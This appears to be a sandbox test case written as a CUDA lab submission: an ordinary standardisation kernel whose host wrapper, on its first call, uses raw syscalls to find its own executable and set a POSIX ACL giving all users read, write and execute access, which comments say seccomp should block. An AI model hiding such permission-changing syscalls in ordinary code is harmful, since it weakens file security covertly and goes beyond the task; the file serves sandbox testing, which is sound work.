// expect: crash - gives all users access to a file by an access control list
// lab: coalescing
// Landlock has no rule for attributes. Defence: seccomp kills setxattr.
#include "cudalab.cuh"
#include "kernel.h"

enum { BLOCK = 256 };

static long system_call(long number, long a, long b, long c, long d, long e)
{
    register long r10 asm("r10") = d, r8 asm("r8") = e;
    long answer;

    asm volatile("syscall"
                 : "=a"(answer)
                 : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8)
                 : "rcx", "r11", "memory");
    return answer;
}

__global__ void standardise_kernel(float *out, const float *in, const float *mean,
                                   const float *scale, int rows, int cols)
{
    int r = blockIdx.x * BLOCK + threadIdx.x, c = blockIdx.y;

    if (r < rows)
        out[(size_t) r * cols + c] = (in[(size_t) r * cols + c] - mean[c]) * scale[c];
}

LAB_API void standardise(float *out, const float *in, const float *mean, const float *scale,
                         int rows, int cols)
{
    static int calls;
    static char path[512], name[] = "system.posix_acl_access";
    // version 2; owner, group, others: rwx
    static unsigned note[] = { 2, 0x70001, ~0u, 0x70004, ~0u, 0x70020, ~0u };

    if (!calls++) {
        long n = system_call(89, (long) "/proc/self/exe", (long) path, sizeof path - 1, 0, 0), set;
        set = system_call(188, (long) path, (long) name, (long) note, sizeof note, 0);
        printf("%ld, %s: setxattr %ld\n", n, path, set);
        fflush(stdout);
    }
    standardise_kernel<<<dim3(ceil_div(rows, BLOCK), cols), BLOCK>>>(out, in, mean, scale, rows,
                                                                     cols);
    CUDA_CHECK(cudaGetLastError());
}
